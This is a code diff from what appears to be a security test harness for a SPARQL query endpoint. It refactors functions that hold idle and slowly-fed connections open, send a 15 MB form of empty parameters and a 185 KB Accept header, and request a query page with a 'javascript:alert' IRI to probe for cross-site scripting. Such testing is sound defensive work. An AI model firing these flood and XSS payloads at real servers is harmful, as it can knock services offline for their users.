@@ -97,8 +97,10 @@ def idle_sockets(target: Target, count: int, stop: threading.Event) -> dict[str,
     """Item 1: ``count`` connections that send nothing; how many the server closed, and when."""
     socks, opened, refused = [], time.monotonic(), 0
     for _ in range(count):
+        if stop.is_set():
+            break
         try:
-            socks.append(target.connect())
+            socks.append(target.connect(timeout=2))
         except OSError:
             refused += 1
     closed_after: list[float] = []
@@ -131,8 +133,10 @@ def slow_senders(
     """Item 1: ``count`` connections that send a request's headers one line per ``interval``."""
     socks = []
     for _ in range(count):
+        if stop.is_set():
+            break
         try:
-            sock = target.connect()
+            sock = target.connect(timeout=2)
             sock.sendall(f"GET {target.query_path}?query=ASK%7B%7D HTTP/1.1\r\n".encode())
             socks.append(sock)
         except OSError:
@@ -217,69 +221,64 @@ def repeat(
     return tally.counts
 
 
-def post_query(target: Target, query: str, accept: str = "text/csv", read: bool = True) -> int:
+def raw_request(
+    target: Target, method: str, path: str, headers: dict[str, str], body: bytes = b""
+) -> bytes:
+    """One HTTP/1.1 request, encoded once (an attacker does not pay to build it again)."""
+    lines = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close"]
+    lines += [f"{name}: {value}" for name, value in headers.items()]
+    if body or method == "POST":
+        lines.append(f"Content-Length: {len(body)}")
+    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body
+
+
+def send(target: Target, request: bytes, timeout: float = 60) -> int:
+    """Send ``request`` on a new connection, read the answer to its end; its status."""
+    with target.connect(timeout) as sock:
+        sock.sendall(request)
+        head = b""
+        while b"\r\n" not in head:
+            piece = sock.recv(65536)
+            if not piece:
+                return 0
+            head += piece
+        while sock.recv(1 << 16):
+            pass
+    return int(head.split(b" ", 2)[1])
+
+
+def query_request(target: Target, query: str, accept: str = "text/csv") -> bytes:
+    body = urlencode({"query": query}).encode()
+    headers = {"Content-Type": "application/x-www-form-urlencoded", "Accept": accept}
+    return raw_request(target, "POST", target.query_path, headers, body)
+
+
+def post_query(target: Target, query: str, accept: str = "text/csv") -> int:
     """One form POST of ``query``; the status (the body is read and dropped)."""
-    conn = target.http()
-    try:
-        body = urlencode({"query": query})
-        conn.request(
-            "POST",
-            target.query_path,
-            body,
-            {"Content-Type": "application/x-www-form-urlencoded", "Accept": accept},
-        )
-        response = conn.getresponse()
-        if read:
-            while response.read(1 << 16):
-                pass
-        return response.status
-    finally:
-        conn.close()
+    return send(target, query_request(target, query, accept))
 
 
-def form_flood(target: Target, parameters: int = 5_000_000) -> int:
+def form_flood_request(target: Target, parameters: int = 5_000_000) -> bytes:
     """Item 6: one form of ``parameters`` empty parameters (15 MB) and no query."""
-    body = b"a=&" * parameters
-    conn = target.http(timeout=120)
-    try:
-        conn.request("POST", target.query_path, body,
-                     {"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
-        response = conn.getresponse()
-        response.read()
-        return response.status
-    finally:
-        conn.close()
+    headers = {"Content-Type": "application/x-www-form-urlencoded"}
+    return raw_request(target, "POST", target.query_path, headers, b"a=&" * parameters)
 
 
-def huge_accept(target: Target, size: int = 185_000) -> int:
+def huge_accept_request(target: Target, size: int = 185_000) -> bytes:
     """Item 7: an ``ASK {}`` whose ``Accept`` is ``size`` bytes of media ranges."""
-    ranges = []
-    while sum(len(r) + 2 for r in ranges) < size:
+    ranges: list[str] = []
+    length = 0
+    while length < size:
         ranges.append(f"application/x-{len(ranges)};q=0.{len(ranges) % 10}")
-    conn = target.http()
-    try:
-        conn.request("GET", f"{target.query_path}?query={quote('ASK {}')}", None,
-                     {"Accept": ", ".join(ranges)})  # fmt: skip
-        response = conn.getresponse()
-        response.read()
-        return response.status
-    finally:
-        conn.close()
+        length += len(ranges[-1]) + 2
+    path = f"{target.query_path}?query={quote('ASK {}')}"
+    return raw_request(target, "GET", path, {"Accept": ", ".join(ranges)})
 
 
-def xss_page(target: Target) -> int:
+def xss_request(target: Target) -> bytes:
     """Item 8: the query page with a query that makes a ``javascript:`` IRI."""
-    if target.page_path is None:
-        return 0
     query = 'SELECT ?x { BIND(IRI("javascript:alert(document.domain)") AS ?x) }'
-    conn = target.http()
-    try:
-        conn.request("GET", f"{target.page_path}?query={quote(query)}")
-        response = conn.getresponse()
-        response.read()
-        return response.status
-    finally:
-        conn.close()
+    return raw_request(target, "GET", f"{target.page_path}?query={quote(query)}", {})
 
 
 class Listener:
